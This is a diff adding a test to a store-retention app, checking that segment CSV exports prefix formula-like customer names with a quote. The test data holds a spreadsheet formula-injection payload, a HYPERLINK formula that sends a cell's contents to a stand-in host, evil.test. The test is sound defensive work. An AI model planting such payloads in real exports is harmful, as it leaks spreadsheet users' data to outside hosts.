@@ -1,5 +1,7 @@
 """Managers' retention pages: scoped to their stores (404 otherwise), errors shown on the form, CSV export."""
 
+import csv
+import io
 import uuid
 from datetime import UTC, datetime
 
@@ -68,6 +70,20 @@ def test_segment_built_in_a_form_lists_members_with_reasons_and_exports(manager_
 
     bad = client.post(f"/retention/{store.pk}/segments/", {**form, "name": "x", "rules-0-value": "lots"})
     assert bad.status_code == 400 and "needs a whole number" in bad.content.decode()
+
+
+def test_a_segment_csv_never_hands_a_spreadsheet_a_formula(manager_client):
+    """A customer's name comes from the order system (the customer chose it): one written as a formula must reach
+    the manager's spreadsheet as the text it is, not run when the file is opened."""
+    store, client = manager_client
+    names = ['=HYPERLINK("http://evil.test/?"&A2,"查看")', "+86 138", "-1+1", "@SUM(A1)", "\t=1+1"]
+    for name in names:
+        customer_with_orders(store, [30], name=name)
+    segment = everyone(store)
+    response = client.get(f"/retention/{store.pk}/segments/{segment.pk}.csv")
+    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
+    written = {row[1] for row in rows[1:]}
+    assert written == {"'" + name for name in names}
 
 
 def test_campaign_form_errors_are_shown_and_nothing_is_saved(manager_client):
